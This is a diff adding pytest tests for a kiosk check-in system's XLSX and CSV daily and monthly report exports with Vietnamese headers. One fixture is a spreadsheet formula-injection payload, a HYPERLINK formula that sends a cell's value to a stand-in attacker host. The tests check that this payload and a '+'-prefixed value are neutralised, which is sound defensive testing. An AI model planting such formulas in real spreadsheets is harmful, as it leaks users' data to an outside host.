@@ -1,0 +1,112 @@
+"""Report files as the province office opens them: XLSX read back with openpyxl, CSV, and
+`kiosk-central report … --out-dir` as the 06:00 timer runs it (rerunnable, named by date)."""
+
+from __future__ import annotations
+
+import datetime as dt
+import io
+import json
+from pathlib import Path
+
+from central_support import central
+from openpyxl import load_workbook
+from report_support import DAY, GenBatch, GenKiosk, World, load, wire_entry
+
+from kiosk.central import report_formats, reports
+from kiosk.central.backends import open_storage
+from kiosk.central.registry import Checkpoint
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+
+
+def _report(tmp_path: Path) -> dict:
+    """A small real day: a point named like a formula, scans at 07:30 and 23:59 local."""
+    kiosk = GenKiosk("k1", "P1", 0.0, dt.datetime(2026, 10, 1, tzinfo=dt.UTC), None)
+    world = World("Asia/Ho_Chi_Minh", [
+        Checkpoint("P1", HOSTILE, district="+Đồng Xoài", kind="market", set_up_on="2026-11-01"),
+        Checkpoint("P2", "Trường", district="Bình Long", kind="school", set_up_on="2026-11-01"),
+    ], [kiosk])
+    start = world.local_midnight(DAY)
+    for minutes in (7 * 60 + 30, 23 * 60 + 59):
+        entry = wire_entry(kiosk, "P1", start + dt.timedelta(minutes=minutes), "in", False, minutes)
+        world.batches.append(GenBatch(kiosk, [entry], start + dt.timedelta(minutes=minutes + 1)))
+    with open_storage(f"sqlite:///{tmp_path}/central.db") as storage:
+        load(storage, world)
+        return reports.daily(storage, DAY, now=start + dt.timedelta(hours=30))
+
+
+def test_xlsx_has_vietnamese_headers_typed_cells_and_no_formulas(tmp_path: Path) -> None:
+    report = _report(tmp_path)
+    book = load_workbook(io.BytesIO(report_formats.to_xlsx(report)))
+    assert book.sheetnames == ["Tổng hợp", "Theo huyện", "Theo loại địa điểm", "Theo giờ",
+                               "Theo điểm", "Nơi không quét", "Nơi quét sai",
+                               "Máy chưa gửi đủ", "Bản ghi đến muộn"]
+    for sheet in book.worksheets:
+        assert sheet.freeze_panes == "A2", sheet.title
+        assert all(cell.font.b for cell in sheet[1])
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+    points = book["Theo điểm"]
+    assert [c.value for c in points[1]] == ["Mã điểm", "Tên điểm", "Huyện", "Loại địa điểm",
+                                            "Đã triển khai", "Lượt quét", "Lượt vào",
+                                            "Lượt ra", "Nhập tay", "Quét lỗi"]
+    row = [c.value for c in points[2]]
+    assert row == ["P1", "'" + HOSTILE, "'+Đồng Xoài", "Chợ / siêu thị", "có", 2, 2, 0, 0, 0]
+    assert isinstance(points["F2"].value, int)
+    assert points.column_dimensions["B"].width > len("Tên điểm")
+    hours = book["Theo giờ"]
+    assert [(r[0].value, r[1].value) for r in hours.iter_rows(min_row=2) if r[1].value] == [
+        (7, 1), (23, 1)]
+    summary = {r[0].value: r[1] for r in book["Tổng hợp"].iter_rows(min_row=2)}
+    assert summary["Lượt quét"].value == 2
+    assert summary["Tỷ lệ hoạt động"].value == 0.5
+    assert summary["Tỷ lệ hoạt động"].number_format == "0.0%"
+    silent = book["Nơi không quét"]
+    assert [c.value for c in silent[2]][:5] == ["P2", "Trường", "Bình Long", "Trường học",
+                                                "Không quét trong 7 ngày"]
+
+
+def test_dates_are_dates_and_times_local(tmp_path: Path) -> None:
+    report = _report(tmp_path)
+    report["completeness"]["late_entries"] = [{"day": "2026-11-14", "entries": 3}]
+    report["completeness"]["kiosks_not_heard_since_day_end"] = [{
+        "checkpoint_id": "P1", "name": "x", "district": "d", "kind": "market",
+        "kiosk_id": "k1", "last_seen_at": "2026-11-15T16:30:00.000000Z"}]
+    book = load_workbook(io.BytesIO(report_formats.to_xlsx(report)))
+    late = book["Bản ghi đến muộn"]["A2"]
+    assert late.is_date and late.value == dt.datetime(2026, 11, 14)
+    assert late.number_format == "dd/mm/yyyy"
+    seen = book["Máy chưa gửi đủ"]["F2"]
+    assert seen.is_date and seen.value == dt.datetime(2026, 11, 15, 23, 30)  # Hà Nội time
+
+
+def test_csv_is_excel_friendly_and_neutralised(tmp_path: Path) -> None:
+    text = report_formats.to_csv(_report(tmp_path)).decode("utf-8")
+    assert text.startswith("\ufeff# Tổng hợp\r\nChỉ tiêu,Giá trị\r\n")
+    assert "\r\n# Theo điểm\r\nMã điểm,Tên điểm," in text
+    assert f"P1,\"'{HOSTILE.replace(chr(34), chr(34) * 2)}\",'+Đồng Xoài,Chợ / siêu thị,có,2,2,0" \
+        in text
+
+
+def test_the_timer_command_writes_dated_files_and_can_run_again(tmp_path: Path) -> None:
+    db = f"sqlite:///{tmp_path}/central.db"
+    central("checkpoints", "add", "P1", "--name", "Chợ", "--set-up-on", "2026-11-01",
+            "--db", db)
+    out = tmp_path / "reports"
+    for _ in range(2):  # a rerun after a failure replaces the same files
+        central("report", "daily", "--date", "2026-11-28", "--out-dir", str(out), "--db", db)
+    assert sorted(p.name for p in out.iterdir()) == [
+        "bao-cao-ngay-2026-11-28.csv", "bao-cao-ngay-2026-11-28.json",
+        "bao-cao-ngay-2026-11-28.xlsx"]
+    report = json.loads((out / "bao-cao-ngay-2026-11-28.json").read_text())
+    assert report["day"] == "2026-11-28" and report["summary"]["points_set_up"] == 1
+    central("report", "monthly", "--month", "2026-11", "--out-dir", str(out), "--format",
+            "xlsx", "--db", db)
+    assert (out / "bao-cao-thang-2026-11.xlsx").exists()
+    month = load_workbook(out / "bao-cao-thang-2026-11.xlsx")
+    assert month["Theo ngày"]["A31"].value == dt.datetime(2026, 11, 30)
+    bad = central("report", "monthly", "--month", "2026-13", "--db", db, check=False)
+    assert bad.returncode == 2 and "expected YYYY-MM" in bad.stderr
+    stdout = central("report", "daily", "--date", "2026-11-28", "--format", "csv", "--db", db)
+    assert "# Theo điểm" in stdout.stdout
